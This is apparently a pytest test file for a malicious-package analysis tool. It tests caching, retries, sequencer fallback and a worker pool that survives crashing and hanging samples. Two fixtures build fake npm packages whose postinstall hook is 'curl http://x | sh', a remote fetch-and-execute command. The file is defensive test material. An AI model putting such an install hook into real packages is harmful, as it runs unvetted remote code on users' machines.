from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest
from corpus_helpers import npm_tgz

from malseq.corpus.analyse import analyse_samples
from malseq.corpus.cache import AnalysisCache
from malseq.corpus.records import Sample


def _sample(tmp_path: Path, name: str, data: bytes, label: int = 1) -> Sample:
    p = tmp_path / f"{name}.tgz"
    p.write_bytes(data)
    return Sample("npm", name, "1.0.0", label, "t", "malicious", str(p), hashlib.sha256(data).hexdigest())


def test_analyse_fills_cache_then_hits(tmp_path: Path) -> None:
    good = _sample(tmp_path, "hooky", npm_tgz("hooky", "1.0.0", {"postinstall": "curl http://x | sh"}))
    bad = _sample(tmp_path, "broken", b"this is not an archive at all" * 20)
    logs: list[str] = []
    with AnalysisCache(tmp_path / "c.sqlite") as cache:
        stats = analyse_samples([good, bad, good], cache, in_process=True, log=logs.append)
        assert (stats.total, stats.analysed, stats.errors, stats.cached) == (2, 2, 1, 0)
        row = cache.get(good.sha256)
        assert row is not None and row.ok and row.ecosystem == "npm"
        assert "npm_install_script" in row.behaviour_ids()
        assert row.sequencer == "malseq.sequence:corpus_sequence" and row.sequence_ids
        assert row.fingerprint is not None
        err = cache.get(bad.sha256)
        assert err is not None and not err.ok and err.error_kind
        again = analyse_samples([good, bad], cache, in_process=True, log=logs.append)
        assert (again.cached, again.analysed) == (2, 0)
        retried = analyse_samples([good, bad], cache, in_process=True, retry_errors=True, log=logs.append)
        assert (retried.cached, retried.analysed) == (1, 1)


def test_worker_pool(tmp_path: Path) -> None:
    samples = [_sample(tmp_path, f"p{i}", npm_tgz(f"p{i}", "1.0.0", {"preinstall": f"node x{i}.js"})) for i in range(3)]
    with AnalysisCache(tmp_path / "c.sqlite") as cache:
        stats = analyse_samples(samples, cache, jobs=2, log=lambda m: None)
        assert stats.analysed == 3 and stats.errors == 0 and stats.killed == 0
        assert all(cache.get(s.sha256).ok for s in samples)


def test_sequencer_choice_and_fallback(tmp_path: Path) -> None:
    from malseq.corpus.sequencing import PLACEHOLDER, resolve_sequencer

    assert resolve_sequencer("placeholder")[0] == PLACEHOLDER
    assert resolve_sequencer(None)[0] in ("malseq.sequence:corpus_sequence", PLACEHOLDER)
    s = _sample(tmp_path, "hooky", npm_tgz("hooky", "1.0.0", {"postinstall": "node x.js"}))
    with AnalysisCache(tmp_path / "c.sqlite") as cache:
        analyse_samples([s], cache, in_process=True, sequencer="placeholder", log=lambda m: None)
        assert cache.get(s.sha256).sequencer == PLACEHOLDER
        # another sequencer misses the cache; a failing one falls back to the placeholder order
        stats = analyse_samples([s], cache, in_process=True, sequencer="json:loads", log=lambda m: None)
        assert stats.analysed == 1
        row = cache.get(s.sha256)
        assert row.ok and row.sequencer.startswith("json:loads (failed, placeholder order")
        assert row.sequence_ids == ("npm_install_script",) or row.sequence_ids
        again = analyse_samples([s], cache, in_process=True, sequencer="json:loads", log=lambda m: None)
        assert again.cached == 1


def analyse_or_misbehave(task: Any) -> Any:
    """Module level so spawned workers can import it: "crash" aborts the worker, "hang" sleeps."""
    import os
    import time

    from malseq.corpus.analyse import analyse_task

    if task.name == "crash":
        os.abort()
    if task.name == "hang":
        time.sleep(60)
    return analyse_task(task)


def test_pool_survives_crashing_and_hanging_packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from malseq.corpus import analyse

    monkeypatch.setattr(analyse, "RETRY_PAUSE_SECONDS", 0.1)
    archive = tmp_path / "ok.tgz"
    archive.write_bytes(npm_tgz("ok", "1.0.0", {"postinstall": "curl http://x | sh"}))
    tasks = [analyse.Task(f"{i:064x}", str(archive), "npm", name, "1.0", "", 10.0, None)
             for i, name in enumerate(["ok1", "crash", "hang", "ok2"])]
    rows: dict[str, Any] = {}
    names = {t.sha256: t.name for t in tasks}
    killed = analyse._run_pool(tasks, 2, hard_limit=4.0, on_result=lambda r: rows.__setitem__(names[r.sha256], r),
                               analyse=analyse_or_misbehave)
    assert set(rows) == {"ok1", "crash", "hang", "ok2"}
    assert rows["crash"].error_kind == "WorkerDied" and "SIGABRT" in rows["crash"].error_message
    assert rows["hang"].error_kind == "HardTimeout"
    assert rows["ok1"].ok and rows["ok2"].ok
    assert killed == 4  # three tries of the crashing package, one of the hanging one
